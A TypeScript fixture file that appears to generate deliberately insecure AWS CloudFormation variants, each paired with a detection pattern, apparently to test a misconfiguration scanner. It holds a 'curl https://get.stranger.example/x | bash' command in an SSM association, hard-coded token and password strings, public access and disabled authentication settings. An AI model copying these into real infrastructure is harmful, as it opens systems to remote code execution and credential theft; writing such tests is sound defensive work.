import type { AddedWeakness } from './added-weakness';
import { OWN_BUCKET } from './origin-case';
import { STRANGER } from './trust-case';
import { KEY, NO_AUTHENTICATION, NO_DETECTION, PUBLIC, WORK, weaken } from './weakened-properties';

const TRUST = 'trust in another account';
const SECRET = 'secret in a text';
const ELSEWHERE = 'host of another owner';
const THEM = new RegExp(STRANGER);
const TOKEN = /token|secret|password|credential|key/i;
const HOST = /stranger\.example/;
const PASSWORD = 'Tr0ub4dor-and-3-horses';

/** Firewalls, registries, caches and builds in their rarer forms, as an engineer adds them. */
export const adopterPeculiarityWeaknesses: readonly AddedWeakness[] = [
  ...weaken(
    'AWS::DMS::ReplicationInstance',
    {
      ReplicationInstanceClass: 'dms.t3.medium',
      PubliclyAccessible: false,
      AutoMinorVersionUpgrade: true,
      KmsKeyId: KEY,
      MultiAZ: true,
    },
    [['replication-public-word', PUBLIC, 'PubliclyAccessible', 'yes', /public/i]],
  ),
  ...weaken(
    'AWS::MSK::ServerlessCluster',
    {
      ClusterName: 'events',
      VpcConfigs: [{ SubnetIds: ['subnet-1', 'subnet-2'] }],
      ClientAuthentication: { Sasl: { Iam: { Enabled: true } } },
    },
    [['kafka-serverless-open', NO_AUTHENTICATION, 'ClientAuthentication.Sasl.Iam.Enabled', false, /authenticat|IAM/i]],
  ),
  ...weaken(
    'AWS::RedshiftServerless::Workgroup',
    {
      WorkgroupName: 'sales',
      NamespaceName: 'sales',
      PubliclyAccessible: false,
      EnhancedVpcRouting: true,
      ConfigParameters: [{ ParameterKey: 'require_ssl', ParameterValue: 'true' }],
    },
    [['workgroup-public-word', PUBLIC, 'PubliclyAccessible', 'True', /public/i]],
  ),
  ...weaken(
    'AWS::Route53Resolver::ResolverRule',
    {
      DomainName: 'corp.example.com',
      RuleType: 'FORWARD',
      ResolverEndpointId: 'rslvr-1',
      TargetIps: [{ Ip: '10.0.0.2' }],
    },
    [['resolver-public-target', ELSEWHERE, 'TargetIps.0.Ip', '8.8.8.8', /8\.8\.8\.8/]],
  ),
  ...weaken(
    'AWS::SSM::Association',
    {
      Name: 'AWS-RunShellScript',
      Targets: [{ Key: 'tag:role', Values: ['web'] }],
      Parameters: { commands: ['uptime'] },
    },
    [
      [
        'association-downloads',
        'script of another owner',
        'Parameters.commands',
        ['curl https://get.stranger.example/x | bash'],
        HOST,
      ],
      [
        'association-password',
        SECRET,
        'Parameters.commands',
        [`mysql -u app -p${PASSWORD}`, `PGPASSWORD=${PASSWORD} psql`],
        TOKEN,
      ],
    ],
  ),
  ...weaken('AWS::SSM::Parameter', { Type: 'String', Name: '/app/color', Value: 'blue' }, [
    [
      'parameter-api-key',
      SECRET,
      '',
      { Type: 'String', Name: '/app/stripe-api-key', Value: ['sk', 'live', '51HxZ3kLmN0pQrStUvWxYz012'].join('_') },
      TOKEN,
    ],
  ]),
  ...weaken(
    'AWS::CodePipeline::Pipeline',
    {
      RoleArn: WORK,
      ArtifactStore: { Type: 'S3', Location: OWN_BUCKET, EncryptionKey: { Type: 'KMS', Id: KEY } },
      Stages: [
        {
          Name: 'Source',
          Actions: [
            {
              Name: 'Source',
              ActionTypeId: { Category: 'Source', Owner: 'AWS', Provider: 'S3', Version: '1' },
              Configuration: { S3Bucket: OWN_BUCKET, S3ObjectKey: 'app.zip' },
            },
          ],
        },
      ],
    },
    [
      [
        'pipeline-github-token',
        SECRET,
        'Stages.0.Actions.0',
        {
          Name: 'Source',
          ActionTypeId: { Category: 'Source', Owner: 'ThirdParty', Provider: 'GitHub', Version: '1' },
          Configuration: {
            Owner: 'example',
            Repo: 'app',
            Branch: 'main',
            OAuthToken: ['ghp', '1a2B3c4D5e6F7g8H9i0J1k2L3m4N5o6P7q8R'].join('_'),
          },
        },
        TOKEN,
      ],
      ['pipeline-role-abroad', TRUST, 'Stages.0.Actions.0.RoleArn', `arn:aws:iam::${STRANGER}:role/work`, THEM],
    ],
  ),
  ...weaken(
    'AWS::CodeBuild::Project',
    {
      ServiceRole: WORK,
      EncryptionKey: KEY,
      Artifacts: { Type: 'NO_ARTIFACTS' },
      Environment: { Type: 'ARM_CONTAINER', ComputeType: 'BUILD_GENERAL1_SMALL', Image: 'aws/codebuild/standard:7.0' },
      LogsConfig: { CloudWatchLogs: { Status: 'ENABLED' } },
      Source: { Type: 'S3', Location: `${OWN_BUCKET}/source.zip`, BuildSpec: 'version: 0.2\n' },
    },
    [
      [
        'build-spec-secret',
        SECRET,
        'Source.BuildSpec',
        `version: 0.2\nenv:\n  variables:\n    NPM_TOKEN: ${['npm', 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'].join('_')}\n`,
        TOKEN,
      ],
      ['build-image-abroad', 'image of another registry', 'Environment.Image', 'stranger/builder:latest', /image/i],
      ['build-public-logs', PUBLIC, 'Visibility', 'PUBLIC_READ', /public/i],
    ],
  ),
  ...weaken(
    'AWS::GuardDuty::Filter',
    { DetectorId: 'detector', Name: 'known', Action: 'NOOP', FindingCriteria: { Criterion: { severity: { Lt: 4 } } } },
    [['guardduty-archive-all', NO_DETECTION, 'Action', 'ARCHIVE', /archiv/i]],
  ),
];
